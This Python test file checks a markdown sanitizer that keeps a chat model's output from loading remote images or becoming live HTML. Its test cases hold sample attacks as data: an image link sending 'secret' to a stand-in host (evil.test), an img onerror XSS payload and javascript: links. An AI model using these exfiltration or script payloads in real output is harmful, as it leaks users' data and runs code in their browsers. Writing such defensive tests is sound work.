"""A model's words cannot fetch a picture from elsewhere or become live HTML."""

from __future__ import annotations

import pytest

from agent.messages import Source
from webui.markdown import safe_markdown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain **bold** and `code`", "plain **bold** and `code`"),
        ("![x](http://evil.test/?d=secret)", "&#91;image: evil.test&#93;"),
        ("![x](<https://evil.test/a b> 'title')", "&#91;image: evil.test&#93;"),
        ("![](//evil.test/a.png)", "&#91;image: evil.test&#93;"),
        (
            "![logo][ref]\n\n[ref]: https://evil.test/a.png",
            "&#91;image: evil.test&#93;\n\n[ref]: https://evil.test/a.png",
        ),
        ("![ref]\n\n[ref]: https://evil.test/a.png", "&#91;image: evil.test&#93;\n\n[ref]: https://evil.test/a.png"),
        ("![ref][]", "&#91;image: ref&#93;"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("</details><!-- x --><?php", "&lt;/details>&lt;!-- x -->&lt;?php"),
        ("3 < 4 and 5 > 2", "3 < 4 and 5 > 2"),
        ("a\u202eb\u200bc\U000e0041", "abc"),
    ],
)
def test_pictures_become_words_and_tags_are_spelled_out(text: str, shown: str) -> None:
    assert safe_markdown(text) == shown


def test_code_is_left_as_it_is() -> None:
    text = "Use `<b>` or:\n\n```html\n<img src=x>\n![a](http://b.test)\n```\n\nand ``a ` <i>``."
    assert safe_markdown(text) == text


def test_an_open_fence_does_not_let_the_rest_of_the_text_out() -> None:
    assert safe_markdown("<b>\n```\n<i>") == "&lt;b>\n```\n<i>"


def test_a_backtick_without_a_partner_is_no_code() -> None:
    assert safe_markdown("it`s <b>") == "it`s &lt;b>"


def test_nested_picture_brackets_leave_no_picture_behind() -> None:
    assert "![" not in safe_markdown("![a[b]c](http://evil.test/x) ![[x](http://evil.test/y)")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see [the page](https://a.test/b?c=d)", "see the page (<https://a.test/b?c=d>)"),
        ("see [a](https://a.test 'title') and [b][1]\n\n[1]: https://b.test/x", None),
        ("[https://a.test](https://a.test)", "[https://a.test](https://a.test)"),
        ("[mail](mailto:a@b.test)", "mail (mailto:a@b.test)"),
        ("[x](javascript:alert(1))", "x (javascript:alert(1))"),
        ("a list: [1, 2] and [ ] todo", "a list: [1, 2] and [ ] todo"),
        ("`[a](https://a.test)`", "`[a](https://a.test)`"),
    ],
)
def test_the_whole_address_of_a_link_is_in_sight(text: str, shown: str | None) -> None:
    if shown is None:
        found = safe_markdown(text)
        assert "a (<https://a.test>) and b (<https://b.test/x>)" in found
    else:
        assert safe_markdown(text) == shown


SOURCES = (Source(title="One", url="https://one.test/"), Source(title="Two", url="https://two.test/a_(b)"))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It opens at 7 [1].", "It opens at 7 [¹](<https://one.test/>)."),
        ("So it is.[1][2]", "So it is.[¹](<https://one.test/>)\u2009[²](<https://two.test/a_(b)>)"),
        ("So it is [1, 2]", "So it is [¹](<https://one.test/>)\u2009[²](<https://two.test/a_(b)>)"),
        ("Nobody knows [3]", "Nobody knows [3]"),
        ("`code[1]` and x[1]", "`code[1]` and x[1]"),
        ("[1]: https://evil.test", "[1]: https://evil.test"),
    ],
)
def test_a_number_in_brackets_leads_to_its_source(text: str, shown: str) -> None:
    assert safe_markdown(text, SOURCES) == shown


def test_a_source_that_is_no_web_page_is_no_link() -> None:
    assert safe_markdown("so [1]", [Source(title="x", url="javascript:alert(1)")]) == "so [1]"
